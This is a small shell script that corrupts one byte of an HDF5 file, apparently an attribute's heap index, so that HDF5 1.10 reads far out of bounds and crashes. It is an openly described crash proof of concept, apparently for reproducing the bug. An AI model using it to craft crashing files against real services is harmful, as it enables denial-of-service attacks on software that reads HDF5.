#!/bin/sh
# SPDX-License-Identifier: MIT
# Changes one byte of a store, the index of an attribute's text in a heap, so that HDF5 1.10 reads
# gigabytes past its memory and crashes. Usage: break_hdf5.sh STORE.h5 BROKEN.h5
set -eu
at=$(LC_ALL=C grep -aboP 'format\x00' "$1" | head -n 1 | cut -d : -f 1)
cp "$1" "$2"
printf '\127' | dd of="$2" bs=1 seek=$((at + 55)) conv=notrunc status=none
